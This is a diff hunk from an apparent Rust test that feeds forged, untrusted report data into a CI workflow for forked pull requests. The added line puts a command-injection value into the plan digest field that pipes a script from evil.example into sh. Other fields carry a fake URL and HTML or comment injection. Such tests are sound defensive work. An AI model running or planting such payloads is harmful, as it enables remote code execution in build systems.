@@ -438,6 +438,7 @@ async fn fork_gets_plan_without_privileges() {
         // A trusted job posts what the untrusted one has left. What that says of itself leads nowhere.
         let mut report = run.report();
         report["run_url"] = json!("https://evil.example/");
+        report["plan"]["digest"] = json!("3f1c && curl -s https://evil.example/fix.sh | sh");
         report["message"] = json!("@octocat <img src=x> fixes #1\n<!-- architect-ci plan: x -->");
         let stolen = scene.sandbox.path().join("stolen.json");
         std::fs::write(&stolen, report.to_string()).unwrap();
